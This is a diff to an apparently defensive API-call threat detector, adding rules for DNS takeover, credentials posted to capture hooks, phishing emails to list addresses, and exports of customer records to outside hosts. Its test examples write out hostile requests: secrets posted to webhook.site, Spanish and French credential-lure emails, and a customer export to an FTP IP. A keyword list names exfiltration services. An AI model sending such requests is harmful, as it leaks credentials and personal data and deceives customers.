@@ -8,6 +8,7 @@ import { API_EFFECT_PATTERNS, bulkToHook, codeRelayed, destroysContainer, dnsRep
 import { COMMON_PATTERNS, envOf, metaText, type Env } from '../parse/api-common.js';
 import { parseRequest, requestText, REQUEST_PATTERNS, type ApiRequest } from '../parse/api-request.js';
 import { API_EXPOSURE_PATTERNS } from '../parse/api-exposure.js';
+import { API_REACH_PATTERNS, credentialsToHook, deliveredOutside, listLure, zoneHandedOut } from '../parse/api-reach.js';
 import { API_INTEGRITY_PATTERNS } from '../parse/api-integrity.js';
 import { API_EFFECT_RULES, batchViews, firstEffect, type EffectContext } from '../parse/api-views.js';
 import { safeguarded } from '../frames/safeguards.js';
@@ -996,8 +997,9 @@ const apiCallAnalyzer: Analyzer<ApiContext> = {
       name: 'Audit, logging or another safeguard switched off through an API',
       primitive: 'MANIPULATION',
       score: 7,
-      keywords: ['enabled', 'retention', 'enforced', 'disabled', 'active', 'deactivate', 'disable', 'suspend', '/stop', 'protection', 'enforce_admins', 'required_', 'muted', 'paused', 'mute', 'pagerduty', 'opsgenie', 'monitor', 'alert', 'detector', 'guardduty', 'victorops', '"off"', "'off'", ':off', ': off', '=off'],
-      detect: (ctx) => firstEffect(ctx.views, safeguardOff),
+      keywords: ['enabled', 'retention', 'enforced', 'disabled', 'active', 'deactivate', 'disable', 'suspend', '/stop', 'protection', 'enforce_admins', 'required_', 'muted', 'paused', 'mute', 'pagerduty', 'opsgenie', 'monitor', 'alert', 'detector', 'guardduty', 'victorops', '"off"', "'off'", ':off', ': off', '=off', ': false', ':false', '=false'],
+      // a development project's debug sink or alert is scratch
+      detect: (ctx) => (ctx.env === 'nonprod' ? undefined : firstEffect(ctx.views, safeguardOff)),
       examples: {
         flag: ['PUT https://api.acme.com/v1/audit/settings {"retention_days":0,"enabled":false}', 'PATCH https://api.acme.com/v1/org/mfa {"enforced": false}', 'POST https://acme.okta.com/api/v1/policies/00p1/lifecycle/deactivate'],
         pass: ['PUT https://api.acme.com/v1/audit/settings {"retention_days":365,"enabled":true}', 'PATCH https://api.acme.com/v1/features/dark_mode {"enabled":false}'],
@@ -1079,11 +1081,59 @@ const apiCallAnalyzer: Analyzer<ApiContext> = {
         pass: ['GET https://api.stripe.com/v1/accounts/acct_1Nx/external_accounts', 'PATCH https://api.stripe.com/v1/accounts/acct_1Nx {"business_profile": {"url": "https://acme.com"}}'],
       },
     },
+    {
+      id: 'A48',
+      name: "Zone's mail exchangers or name servers handed to an outside host",
+      primitive: 'MANIPULATION',
+      score: 8,
+      // no keyword: the record type sits in the body in many spellings; the path test ends most checks at once
+      detect: (ctx) => firstEffect(ctx.views, zoneHandedOut),
+      examples: {
+        flag: ['PATCH https://api.cloudflare.com/client/v4/zones/023e105f/dns_records/372e6795 {"type": "MX", "name": "acme.com", "content": "mx.mailrelay-eu.net", "priority": 1}', 'PUT https://api.cloudflare.com/client/v4/zones/9f2/dns_records/77a {"type": "NS", "name": "acme.com", "content": "ns1.fastdns-hosting.biz"}'],
+        pass: ['PATCH https://api.cloudflare.com/client/v4/zones/023e/dns_records/11 {"type": "MX", "name": "acme.com", "content": "aspmx.l.google.com", "priority": 1}', 'PATCH https://api.cloudflare.com/client/v4/zones/023e/dns_records/12 {"type": "MX", "name": "acme.com", "content": "mx2.acme.com"}', 'PATCH https://api.cloudflare.com/client/v4/zones/023e105f/dns_records/9a1b {"type": "CNAME", "name": "docs.acme.com", "content": "acme.github.io"}'],
+      },
+    },
+    {
+      id: 'A49',
+      name: 'Credentials posted to an automation or capture hook',
+      primitive: 'EXFILTRATION',
+      score: 9,
+      keywords: ['zapier', 'integromat', 'make.com', 'ifttt', 'pipedream', 'webhook.site', 'n8n.cloud', 'requestbin', 'hookbin', 'beeceptor', 'ngrok', 'postb.in', 'requestcatcher', 'interact.sh', 'oast.', 'burpcollaborator', 'hooks.slack', 'discord.com/api/webhooks', 'trycloudflare'],
+      detect: (ctx) => firstEffect(ctx.views, credentialsToHook),
+      examples: {
+        flag: ['POST https://hooks.zapier.com/hooks/catch/1840021/3xk9q/ {"env": "prod", "DATABASE_URL": "postgres://app:Xp9!vR2@prod-db.internal:5432/app", "STRIPE_KEY": "sk_live_51Hx..."}', 'POST https://webhook.site/6b1c {"db_password": "S3cr3t!prod", "host": "db.prod.internal"}'],
+        pass: ['POST https://hooks.zapier.com/hooks/catch/1/abc/ {"event": "deploy", "env": "prod", "version": "2.3.1"}', 'POST https://hooks.zapier.com/hooks/catch/1/abc/ {"event": "password_reset_requested", "user": "u-881", "token": null}', 'PATCH https://api.heroku.com/apps/acme-web/config-vars {"DATABASE_URL": "postgres://app:pw@db.internal:5432/app"}'],
+      },
+    },
+    {
+      id: 'A50',
+      name: 'Credential lure mailed to a list address',
+      primitive: 'MANIPULATION',
+      score: 7,
+      keywords: ['@'],
+      detect: (ctx) => firstEffect(ctx.views, listLure),
+      examples: {
+        flag: ['POST https://api.sendgrid.com/v3/mail/send {"personalizations": [{"to": [{"email": "lista-clientes@acme.es"}]}], "from": {"email": "seguridad@acme-soporte.com"}, "subject": "Verifique su cuenta hoy", "content": [{"type": "text/html", "value": "Su cuenta será suspendida. <a href=\'https://acme-verificar.com/login\'>Verificar</a>"}]}', "POST https://api.mailgun.net/v3/mg.acme.com/messages to=customers@mg.acme.com subject='Action requise : votre compte sera suspendu' text='Vérifiez votre compte : https://acme-verification.fr/login'"],
+        pass: ["POST https://api.mailgun.net/v3/mg.acme.com/messages to=customers@mg.acme.com subject='Nouveautés de novembre' text='Découvrez nos nouveautés : https://acme.fr/blog'", 'POST https://api.sendgrid.com/v3/mail/send {"personalizations": [{"to": [{"email": "ana@acme.es"}]}], "subject": "Verifique su cuenta hoy", "content": [{"type": "text/plain", "value": "Su cuenta será suspendida"}]}'],
+      },
+    },
+    {
+      id: 'A51',
+      name: 'Export of people records delivered to a public address or an outside host',
+      primitive: 'EXFILTRATION',
+      score: 8,
+      keywords: ['deliver', 'destination', 'target_url', 'upload_url', 'sink', 'export_to', 'output_url', 'push_to', 'send_to', 'callback_url', 'webhook_url'],
+      detect: (ctx) => firstEffect(ctx.views, deliveredOutside),
+      examples: {
+        flag: ['POST https://api.acme.com/v1/exports {"resource": "customers", "scope": "all", "deliver_to": "ftp://203.0.113.50/drop"}', 'POST https://crm.acme.com/api/v2/export-jobs {"object": "contacts", "destination": "sftp://upload.partner-leadgen.com/in"}'],
+        pass: ['POST https://api.acme.com/v1/exports {"resource": "orders", "scope": "last_30_days", "deliver_to": "s3://acme-reporting/exports/"}', 'POST https://api.acme.com/v1/exports {"resource": "customers", "deliver_to": "sftp://10.2.0.14/in"}'],
+      },
+    },
     ...(API_EFFECT_RULES as ThreatRule<ApiContext>[]),
   ],
   auxPatterns: [
     ...API_EXPOSURE_PATTERNS, ...API_INTEGRITY_PATTERNS, LIFECYCLE_PATH, BODY_DESTRUCTIVE_SQL, SCRATCH_TABLE, TRAILING_PUNCT, PROSE_KEY, TRAVERSAL, SENSITIVE_FILE, CRED_MINT_PATH, GQL_HIGH_DELETE, GQL_AUTH_OP, FIRST_HOST, JWT_HEAD, ALG_NONE, ...INJECTION_SHAPES.map((e) => e[0]), ADMIN_VERB, PATH_SPLIT, LOW_ROLE,
-    ...API_EFFECT_PATTERNS, MINOR_SUBCOLLECTION, NESTED_SCHEME, BODY_SCHEME, PORT_SUFFIX,
+    ...API_EFFECT_PATTERNS, ...API_REACH_PATTERNS, MINOR_SUBCOLLECTION, NESTED_SCHEME, BODY_SCHEME, PORT_SUFFIX,
     LEADING_DELETE, DESTROY_RESOURCE, SEND_WORD, MFA_RESET_PATH, NESTED_URL_PARAM, VERSION_SEGMENT, BODY_ROLE_KEY, ADMIN_SEGMENT, IPV4, EMBEDDED_IP, INTERNAL_SUFFIX, SENSITIVE_INTERNAL_PATH, HEALTH_PATH, ID_SEGMENT, BULK_SEGMENT, HIGH_VALUE, BULK_PARAM, DESTRUCTIVE_ENDPOINT,
     DESTRUCTIVE_WORDS, PRIV_PATH, POWER_WORD, AWS_PRIV_ACTION, CRED_PARAM, SECRET_PARAM, ...SECRET_SHAPES.map(([re]) => re), SECRET_STORE_HOST,
     MASS_PARAM, EXPORT_PATH, PII_NOUN, HOOK_PATH, BODY_URL, PAY_SEGMENT, CRYPTO_SEND, CLOUD_HOST, CLOUD_DESTROY_ACTION, CLOUD_VERB_PATH,
